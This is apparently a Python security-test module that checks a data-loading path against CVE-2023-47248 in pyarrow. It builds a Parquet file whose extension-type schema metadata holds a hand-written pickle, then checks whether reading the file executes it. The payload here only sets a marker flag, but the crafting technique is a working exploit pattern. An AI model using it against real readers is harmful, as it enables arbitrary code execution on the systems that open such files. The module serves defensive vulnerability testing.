"""Types of a Parquet file that would run something (row 18, CVE-2023-47248).

Readers before pyarrow 14.0.1 unpickled what the schema of a file says of an extension type. Such a file is made and
read as a party's own table. Undefended: the same file, of whose schema a process of its own unpickles what they did.
"""

import builtins
import io
import subprocess
import sys
import tempfile
from pathlib import Path

import pyarrow as pa
from pyarrow import parquet

from fedmkt.attack_lab.effort import Effort
from fedmkt.attack_lab.finding import Finding, Limit
from fedmkt.attack_lab.subject import Subject
from fedmkt.errors import FedmktError
from fedmkt.party.table import Column, TableSchema, read_table

FIRST_SAFE = (14, 0, 1)
_MARK = "fedmkt_attack_lab"
_PICKLE = b"cbuiltins\nsetattr\n(cbuiltins\n__import__\n(S'builtins'\ntRS'fedmkt_attack_lab'\nI01\ntR."
_AS_BEFORE = """
import builtins, io, pickle, sys
from pyarrow import parquet
field = parquet.read_schema(io.BytesIO(sys.stdin.buffer.read())).field("x")
pickle.loads(field.metadata[b"ARROW:extension:metadata"])
print(int(getattr(builtins, "fedmkt_attack_lab", False)))
"""


def crafted_parquet(subject: Subject, effort: Effort) -> Finding:
    """Row 18: whether reading the file runs its pickle, and whether pyarrow is older than the repair."""
    data = crafted()
    child = subprocess.run(
        [sys.executable, "-c", _AS_BEFORE], input=data, capture_output=True, check=True, timeout=60
    )
    version = tuple(int(part) for part in pa.__version__.split(".")[:3] if part.isdigit())
    ran, refused = read_crafted(data)
    return Finding(
        18, "pickle in a Parquet schema", "executed", float(child.stdout), float(ran + (version < FIRST_SAFE)),
        Limit(0),
        f"pyarrow {pa.__version__}; the file is {'refused' if refused else 'read as plain numbers'}",
    )  # fmt: skip


def crafted() -> bytes:
    """Make a Parquet file with a column of an extension type whose description is a pickle that sets a mark."""
    kind = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": _PICKLE}
    schema = pa.schema([pa.field("phone", pa.string()), pa.field("x", pa.float64(), metadata=kind)])
    people = [f"+86131{number:08d}" for number in range(20)]
    table = pa.Table.from_arrays([pa.array(people), pa.array([float(i) for i in range(20)])], schema=schema)
    buffer = io.BytesIO()
    parquet.write_table(table, buffer)
    return buffer.getvalue()


def read_crafted(data: bytes) -> tuple[bool, bool]:
    """Read a file as a party does; tell whether its pickle ran, and whether it was refused."""
    schema = TableSchema("phone", "phone", "86", (Column("x", "number"),), None)
    setattr(builtins, _MARK, False)
    refused = False
    try:
        with tempfile.TemporaryDirectory() as name:
            path = Path(name) / "table.parquet"
            path.write_bytes(data)
            read_table(path, schema)
    except FedmktError:
        refused = True
    finally:
        ran = bool(getattr(builtins, _MARK))
        delattr(builtins, _MARK)
    return ran, refused
